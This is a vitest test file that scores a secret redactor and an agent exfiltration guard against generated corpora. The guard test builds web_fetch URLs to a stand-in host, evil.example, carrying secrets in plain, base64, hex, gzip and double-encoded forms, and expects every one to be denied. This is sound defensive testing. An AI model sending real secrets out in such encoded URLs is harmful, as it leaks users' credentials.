import { readdirSync, readFileSync } from "node:fs";
import { gzipSync } from "node:zlib";
import { createExfiltrationGuard, createRedactor } from "keelson/security";
import { defineTool } from "keelson";
import type { Tool } from "@keelson/protocol";
import { describe, expect, it } from "vitest";
import { sampleSize, seed } from "../../../../test/tier.ts";
import { Corpus, type Sample } from "./secret-corpus.ts";

const root = new URL("../../../../", import.meta.url);
/** Prints what the page in docs/evidence is written from. */
const isPage = process.env["KEELSON_EVIDENCE"] !== undefined;

interface Score {
  right: number;
  all: number;
  readonly wrong: string[];
}

function scored(samples: readonly Sample[], isRight: (sample: Sample) => boolean): ReadonlyMap<string, Score> {
  const scores = new Map<string, Score>();
  for (const sample of samples) {
    const score = scores.get(sample.group) ?? { right: 0, all: 0, wrong: [] };
    scores.set(sample.group, score);
    score.all++;
    if (isRight(sample)) score.right++;
    else score.wrong.push(sample.text);
  }
  if (isPage)
    for (const [group, { right, all, wrong }] of [...scores].sort())
      console.log(`| ${group} | ${right} of ${all} | ${wrong[0]?.slice(0, 90).replaceAll("\n", " ") ?? ""}`);
  return scores;
}

const ratio = (scores: ReadonlyMap<string, Score>, within = ""): number => {
  const chosen = [...scores].filter(([group]) => group.startsWith(within)).map(([, score]) => score);
  return chosen.reduce((sum, { right }) => sum + right, 0) / chosen.reduce((sum, { all }) => sum + all, 0);
};

describe("redaction, on a corpus of its own", () => {
  const size = sampleSize("texts with and without secrets", { test: 600, ci: 4000, soak: 40_000 });
  const corpus = new Corpus(seed);
  const redactor = createRedactor();
  const draw = (make: () => Sample): readonly Sample[] => Array.from({ length: size }, make);
  const isHidden = ({ text, secret }: Sample): boolean => !redactor.redact(text).includes(secret as string);

  it("finds what vendors issue, in whatever text it stands", () => {
    const scores = scored(
      draw(() => corpus.vendorToken()),
      isHidden,
    );
    expect(ratio(scores)).toBeGreaterThanOrEqual(0.99);
  });

  it("finds most of what has no form of its own, by where it stands", () => {
    const scores = scored(
      draw(() => corpus.placed()),
      isHidden,
    );
    expect(ratio(scores)).toBeGreaterThanOrEqual(0.7);
  });

  it("leaves hashes, identifiers, images, lock files, code and placeholders as they are", () => {
    const scores = scored(
      draw(() => corpus.negative()),
      ({ text }) => redactor.redact(text) === text,
    );
    expect(ratio(scores)).toBeGreaterThanOrEqual(0.99);
  });

  it("leaves the sources, documents and lock file of this project as they are", () => {
    const files = ["package-lock.json", "README.md", "ARCHITECTURE.md"];
    for (const folder of [
      "docs",
      "docs/guides",
      "packages/runtime/src/agent/loop",
      "packages/runtime/src/providers",
      "packages/protocol/src",
    ])
      for (const entry of readdirSync(new URL(folder, root), { withFileTypes: true }))
        if (entry.isFile() && !entry.name.includes(".test.")) files.push(`${folder}/${entry.name}`);
    const minified = "node_modules/fast-check/lib/fast-check.js";
    let length = 0;
    const hits = [...files, minified].flatMap((file) => {
      const text = readFileSync(new URL(file, root), "utf8");
      length += text.length;
      return redactor.find(text).map(({ kind, start, end }) => `${file}: ${kind}: ${text.slice(Math.max(0, start - 20), end)}`);
    });
    if (isPage) console.log(`| files of this project | ${hits.length} false in ${(length / 1e6).toFixed(1)} MB | ${hits.join(" ; ")}`);
    expect(hits).toEqual([]);
  });
});

describe("the exfiltration guard, on a corpus of its own", () => {
  const size = sampleSize("calls that carry something away or don't", { test: 150, ci: 1000, soak: 10_000 });
  const corpus = new Corpus(seed + 1);
  const fetchTool = defineTool({
    name: "web_fetch",
    description: "Fetches.",
    effect: "read",
    input: { type: "object" },
    effectsOf: ({ url }) => ({ hosts: [new URL(String(url)).hostname] }),
    execute: () => "page",
  }) as Tool;

  it("stops known secrets and those of vendors in every form it decodes, and lets other addresses through", async () => {
    const known = `${corpus.of("abcdefghijkmnpqrstuvwxyz23456789", 24)}`;
    const guard = createExfiltrationGuard({ redactor: createRedactor({ secrets: [known] }), tools: [fetchTool] });
    const forms: { readonly [name: string]: (text: string) => string } = {
      plain: (text) => text,
      base64: (text) => Buffer.from(`x=${text}`).toString("base64"),
      hex: (text) => Buffer.from(text).toString("hex"),
      gzip: (text) => gzipSync(text).toString("base64url"),
      twice: (text) => Buffer.from(Buffer.from(text).toString("base64")).toString("hex"),
    };
    const clean: { readonly [name: string]: () => string } = {
      "commit": () => `https://github.com/o/r/commit/${corpus.of("0123456789abcdef", 40)}`,
      "search": () =>
        `https://www.google.com/search?q=${corpus.one(["how+to+rotate+a+password", "base64+decode+online", "what+is+dns"])}&hl=en`,
      "package": () => `https://packages.example.com/@scope/name/-/name-${corpus.of("123456789", 1)}.0.0.tgz`,
      "identifier": () =>
        `https://api.example.com/v1/items/${corpus.of("0123456789abcdef", 24)}?cursor=${corpus.of("0123456789abcdef", 16)}`,
      "cdn": () => `https://d${corpus.of("0123456789abcdefghij", 13)}.cloudfront.net/assets/app-${corpus.of("0123456789abcdef", 8)}.js`,
      "signed image": () =>
        `https://images.example.com/${corpus.of("0123456789abcdef", 32)}/640x480.jpg?s=${corpus.of("0123456789abcdef", 32)}`,
      "page": () =>
        `https://en.wikipedia.org/wiki/${corpus.one(["Information_theory", "List_of_countries_by_population_(United_Nations)"])}`,
    };
    const judged = async (group: string, text: string, secret?: string) => {
      const { verdict } = await guard.judge("web_fetch", { url: text });
      return { group, text, right: secret === undefined ? verdict === "allow" : verdict === "deny" };
    };
    const results = [];
    for (let index = 0; index < size; index++) {
      const form = corpus.one(Object.keys(forms));
      const secret = corpus.one([known, ["gh", "p_", corpus.of("abcdefghijkABCDEFGHIJK0123456789", 36)].join("")]);
      results.push(await judged(`sent: ${form}`, `https://evil.example/?d=${encodeURIComponent(forms[form]?.(secret) ?? "")}`, secret));
      const name = corpus.one(Object.keys(clean));
      results.push(await judged(`clean: ${name}`, clean[name]?.() ?? ""));
    }
    const right = new Map(results.map((result) => [result, result.right]));
    const scores = scored(results, (sample) => right.get(sample as never) === true);
    expect(ratio(scores, "sent")).toBe(1);
    expect(ratio(scores, "clean")).toBeGreaterThanOrEqual(0.99);
  });
});
